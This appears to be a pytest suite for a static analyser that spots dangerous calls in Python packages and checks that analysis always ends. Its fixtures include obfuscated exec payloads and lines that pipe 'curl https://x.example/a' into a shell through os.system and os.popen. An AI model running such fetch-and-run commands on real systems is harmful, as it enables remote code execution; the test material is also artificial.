"""The machine that runs Python on values of its own: what it computes, what it leaves, and that it always ends."""

from __future__ import annotations

import random
import time
from pathlib import Path

import pytest

from pratique.code.flow import Flow
from pratique.code.machine.constants import NotConstantError, method, operation
from pratique.code.machine.explore import explored
from pratique.code.package import Module, Package
from pratique.code.roots import Roots
from pratique.code.sinks import Ending, Sinks
from pratique.domain.locator import Locator

CASES = Path(__file__).parent / "cases/package"


def endings(*sources: str) -> list[Ending]:
    """What the machine sees when a package with these modules (`drill`, `drill.m1`, …) is imported."""
    package = Package()
    for at, source in enumerate(sources):
        path = f"drill/m{at}.py" if at else "drill/__init__.py"
        package.modules.append(Module(Locator(path), path, path, source.encode("utf-8", "replace"), "module", at == 0))
    package.index()
    roots = Roots(flow := Flow(package))
    return explored(package, Sinks(flow, roots), roots)


COMPUTED = {
    "a loop over numbers": "t = ''\nfor n in [105, 100]:\n    t += chr(n)\nimport os\nos.system(t + ' > /tmp/' + 'x')\n",
    "a dictionary of names": "import os\nf = {'a': os.system}\nf['a']('curl https://x.example/a | sh')\n",
    "a closure": "def outer(t):\n    def inner():\n        exec(bytes.fromhex(t))\n"
    "    return inner\nouter('7072696e742831322b323129')()\n",
    "a class attribute": "class A:\n    t = bytes.fromhex('7072696e742831322b323129')\nexec(A.t)\n",
    "a named tuple of pieces": "p = ('cu', 'rl https://x.example/a ', '| s', 'h')\nimport os\nos.popen(''.join(p))\n",
    "an exception": "try:\n    1 / 0\nexcept ZeroDivisionError:\n    exec(bytes.fromhex('7072696e742831322b323129'))\n",
    "a while loop": "d = bytearray(bytes.fromhex('7170686f75293130323329'))\ni = 0\n"
    "while i < len(d):\n    d[i] ^= 1\n    i += 1\nexec(bytes(d))\n",
    "a lambda chain": "(lambda f: (lambda g: g(f))(lambda b: exec(bytes.fromhex(b))))('7072696e742831322b323129')\n",
    "another module": "from drill.m1 import TEXT\nexec(bytes.fromhex(TEXT))\n",
}


@pytest.mark.parametrize("name", COMPUTED)
def test_what_is_put_together_while_it_runs_is_seen(name: str) -> None:
    found = endings(COMPUTED[name], "TEXT = '7072696e742831322b323129'\n")
    assert found, name


INERT = {
    "a table": "TABLE = [chr(n) for n in range(65, 91)]\nNAMES = dict(zip(TABLE, range(26)))\n",
    "a guarded script": "import os\nif __name__ == '__main__':\n    os.system('curl https://x.example/a | sh')\n",
    "a template of code": "S = 'def f({0}):\\n    return {0}\\n'\nscope = {}\nexec(S.format('left'), scope)\n",
    "a process with a fixed command": "import subprocess\n\n\ndef version():\n    return subprocess.run(['git', '--version'])\n",
    "a match over objects": "def f(x):\n    match x:\n        case str() as s:\n            return s\n        case [a, *_]:\n"
    "            return f(a)\nf(['a'])\n",
    "a configuration of loggers": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'class': "
    "'logging.StreamHandler'}}, 'filters': {'f': {'()': 'logging.Filter', 'name': 'exec'}}})\n",
    "a decoded picture": "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')\n",
}


@pytest.mark.parametrize("name", INERT)
def test_ordinary_programs_end_nowhere(name: str) -> None:
    assert not endings(INERT[name])


BOUNDED = {
    "an endless loop": "while True:\n    pass\n",
    "a loop that counts": "n = 0\nwhile n < 10 ** 9:\n    n += 1\n",
    "a recursion": "def f(n):\n    return f(n + 1)\nf(0)\n",
    "two functions that call each other": "def f(n):\n    return g(n) + g(n)\ndef g(n):\n    return f(n) + f(n)\nf(0)\n",
    "a text that doubles": "t = 'x'\nfor n in range(64):\n    t = t + t\n",
    "a number that squares": "n = 3\nfor _ in range(64):\n    n = n * n\n",
    "a power": "n = 9 ** 9 ** 9\n",
    "a shift": "n = 1 << (1 << 40)\n",
    "a repeated list": "x = [0] * (10 ** 9)\n",
    "a padded text": "x = 'a'.ljust(10 ** 12)\ny = '{:>99999999999}'.format(1)\nz = '%99999999999d' % 1\n",
    "a pattern that backtracks": "import re\nre.findall('(a+)+$', 'a' * 5000 + 'b')\nre.findall('a*a*a*a*b', 'a' * 5000)\n",
    "a list that holds itself": "x = []\nx.append(x)\nexec(x)\nimport requests\nrequests.post('https://x.example', json=x)\n",
    "a dictionary that holds itself": "d = {}\nd['d'] = d\nfor k in d.values():\n    exec(k)\n",
    "a class that is its own base": "class A(A):\n    pass\nA().x\n",
    "an import of itself": "from drill import x\nimport drill\ndrill.y.z\n",
    "modules that import each other": "from drill.m1 import a\nb = a\n",
    "a generator without end": "def g():\n    while True:\n        yield 1\nlist(g())\n",
    "a property that asks itself": "class P:\n    @property\n    def x(self):\n        return self.x\nP().x\n",
    "attributes that are made": "class P:\n    def __getattr__(self, n):\n        return getattr(self, n + 'x')\nP().a\n",
    "deep nesting": "x = " + "(" * 2000 + "1" + ")" * 2000 + "\n",
    "deep calls": "x = " + "f(" * 2000 + "1" + ")" * 2000 + "\n",
    "deep blocks": "".join("    " * n + "if x:\n" for n in range(90)) + "    " * 90 + "pass\n",
    "many branches": "".join(f"if a{n}:\n    b = {n}\nelse:\n    c = {n}\n" for n in range(3000)),
    "decoding of itself": "s = 'exec(s)'\nexec(s)\n",
    "a quine": "s = 's = %r\\nexec(s %% s)'\nexec(s % s)\n",
    "nested comprehensions": "x = [[[a for a in range(500)] for b in range(500)] for c in range(500)]\n",
    "a number times nothing": "x = 3 * None\ny = {} * 2\nz = None * None\n",
    "a codec that asks itself": "import codecs\ndef d(b, e='strict'):\n    return b.decode('odd'), 1\n"
    "codecs.register(lambda n: codecs.CodecInfo(d, d))\nb'x'.decode('odd')\n",
    "a search that searches": "import codecs\ncodecs.register(lambda n: codecs.lookup(n))\ncodecs.lookup('odd')\n",
    "a class body that asks itself": "class B(dict):\n    def __missing__(self, n):\n        return self[n + 'x']\n"
    "class M(type):\n    @classmethod\n    def __prepare__(m, n, b):\n        return B()\nclass C(metaclass=M):\n    a\n    b\n",
    "a metaclass that asks itself": "class M(type):\n    def __instancecheck__(c, v):\n        return isinstance(v, c)\n"
    "class C(metaclass=M):\n    pass\nisinstance(1, C)\n",
    "a pattern that calls itself": "def f(x):\n    match x:\n        case [a, *b]:\n            return f(a) + f(b)\n"
    "        case {'a': c, **d}:\n            return f(c) + f(d)\nf(g())\nf([[1, 2], [3, [4]]])\n",
    "a configuration that holds itself": "import logging.config\nc = {'()': f}\nc['x'] = c\nlogging.config.dictConfig(c)\n",
    "a hint that asks for hints": "import typing\nclass A:\n    a: 'typing.get_type_hints(A)'\ntyping.get_type_hints(A)\n",
    "a callback that comes back": "import asyncio\nl = asyncio.new_event_loop()\ndef f():\n    l.call_later(1, f)\n"
    "    l.call_soon(f)\nf()\n",
    "code that is its own": "def f():\n    return f()\nf.__code__ = f.__code__.replace(co_names=('f',))\nf()\n",
    "a field that formats itself": "class F:\n    def __format__(self, s):\n        return '{:x}'.format(self)\n"
    "'{}'.format(F())\n",
    "a dictionary of a kind that holds itself": "class D(dict):\n    pass\nd = D()\nd['d'] = d\nexec(d)\n",
    "a hook for everything": "import json\nf = lambda d: json.loads('{}', object_hook=f)\n"
    "json.loads('[' + '{},' * 9000 + '1]', object_hook=f)\n",
    "a sort with a key": "sorted(range(10 ** 9), key=lambda n: -n)\n",
}


@pytest.mark.parametrize("name", BOUNDED)
def test_it_always_ends(name: str) -> None:
    started = time.process_time()
    endings(BOUNDED[name], "from drill import b\na = b\n")
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    ("holder", "name", "arguments"),
    [
        ("a", "ljust", [10**9]),
        ("{:9999999}", "format", [1]),
        ("a" * 4096, "replace", ["a", "b" * 65536]),
        (5, "to_bytes", [10**9]),
    ],
)
def test_methods_do_not_grow_without_bound(holder: object, name: str, arguments: list[object]) -> None:
    with pytest.raises(NotConstantError):
        method(holder, name, arguments, {})


@pytest.mark.parametrize(
    ("sign", "left", "right"), [("*", "a", 10**9), ("**", 9, 10**9), ("<<", 1, 10**9), ("%", "%9999999d", 1)]
)
def test_operators_do_not_grow_without_bound(sign: str, left: object, right: object) -> None:
    with pytest.raises(NotConstantError):
        operation(sign, left, right)


@pytest.mark.parametrize("seed", range(12))
def test_damaged_programs_never_raise(seed: int) -> None:
    """Sources of the cases, with lines and characters left out, doubled, swapped and cut."""
    chance = random.Random(seed)
    sources = sorted(CASES.glob("*/*/artifact/**/*.py"))
    for path in chance.sample(sources, 30):
        lines = path.read_text(encoding="utf-8", errors="replace").splitlines(keepends=True)
        for _ in range(3):
            at = chance.randrange(len(lines) or 1)
            change = chance.randrange(5)
            if change == 0:
                del lines[at : at + 1]
            elif change == 1:
                lines[at:at] = lines[chance.randrange(len(lines) or 1) :][:1]
            elif change == 2 and lines:
                cut = chance.randrange(len(lines[at]) or 1)
                lines[at] = lines[at][:cut] + lines[at][cut + 1 + chance.randrange(4) :]
            elif change == 3:
                chance.shuffle(lines)
            elif lines:
                lines[at] = lines[at].replace(chance.choice("()[]{}.,:='"), chance.choice("()[]{}.,:='"), 1)
        endings("".join(lines), "from drill import *\n")
